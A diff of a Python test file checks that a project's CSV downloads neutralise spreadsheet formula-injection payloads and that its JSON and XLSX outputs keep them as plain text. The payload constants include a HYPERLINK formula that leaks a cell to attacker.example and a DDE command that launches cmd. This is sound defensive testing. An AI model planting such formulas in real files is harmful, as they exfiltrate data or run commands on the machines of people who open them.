@@ -11,7 +11,7 @@ import pytest
 
 from calculators import catalogue
 from calculators.formatting import csv_cell, csv_writer
-from conftest import build_site, copy_data, rewrite_csv_cell
+from conftest import copy_data, rewrite_csv_cell
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
 DDE = "=cmd|' /C calc'!A0"
@@ -91,14 +91,19 @@ def test_calculator_csvs_neutralise_names_from_data(bundle, params):
 
 def test_dataset_and_table_csvs_neutralise_cells(tmp_path):
     """A data cell holding each payload reaches csv/resources.csv and the per-table CSV as text;
-    the XLSX and JSON keep the exact value."""
+    the XLSX and JSON keep the exact value. (The downloads as the build's downloads step writes them,
+    atlas.downloads.write, from data validated as the build validates it; not a whole site.)"""
+    import json
+
+    from atlas import downloads
+    from atlas.datastore import load
+    from atlas.pages.products import Renderer
     d = copy_data(tmp_path)
     rewrite_csv_cell(d / "bsf" / "resources.csv", 0, "note", HYPERLINK)
     rewrite_csv_cell(d / "bsf" / "resources.csv", 1, "note", DDE)
     rewrite_csv_cell(d / "bsf" / "resources.csv", 2, "note", AT_SUM)
-    out = tmp_path / "site"
-    r = build_site(out, data=d)
-    assert r.returncode == 0, r.stdout[-2000:] + r.stderr[-2000:]
+    out = tmp_path / "docs"
+    downloads.write(Renderer(load(d)), out)
     first = next(csv.DictReader((d / "bsf" / "resources.csv").open()))
     table = f"tables/bsf/{first['table_id']}.csv"
     for path in ("csv/resources.csv", table):
@@ -106,6 +111,10 @@ def test_dataset_and_table_csvs_neutralise_cells(tmp_path):
         notes = [x["note"] for x in rows if x["doc"] == "bsf"][:3]
         assert notes == ["'" + HYPERLINK, "'" + DDE, "'" + AT_SUM], path
         assert not [c for x in rows for c in x.values() if c.startswith(("=", "@"))], path
-    import json
     js = json.loads((out / "downloads" / "json" / "resources.json").read_text(encoding="utf-8"))
     assert [x["note"] for x in js if x["doc"] == "bsf"][:3] == [HYPERLINK, DDE, AT_SUM]
+    from openpyxl import load_workbook
+    ws = load_workbook(out / "downloads" / "benchmark-atlas.xlsx")["resources"]
+    names = [c.value for c in ws[1]]
+    cells = [c for row in ws.iter_rows(min_row=2) if row[names.index("doc")].value == "bsf" for c in row[names.index("note"):names.index("note") + 1]][:3]
+    assert [(c.value, c.data_type) for c in cells] == [(HYPERLINK, "s"), (DDE, "s"), (AT_SUM, "s")]  # text, never a formula
